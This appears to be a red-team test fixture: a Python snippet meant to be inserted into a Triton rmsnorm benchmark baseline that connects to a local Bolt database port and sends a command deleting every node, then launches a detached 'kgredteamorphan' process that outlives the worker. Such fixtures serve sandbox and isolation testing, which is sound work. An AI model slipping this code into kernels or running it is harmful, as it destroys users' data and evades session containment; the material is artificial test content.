# attack (inserted after the imports of the Triton rmsnorm baseline): connect to the Bolt port and
# start a process that outlives the worker.
import socket
import subprocess

try:
    _s = socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=2)
    _s.sendall(b"MATCH (n) DETACH DELETE n")
    _s.close()
except OSError:
    pass
subprocess.Popen(["/bin/sh", "-c", "exec -a kgredteamorphan sleep 600"], start_new_session=True)
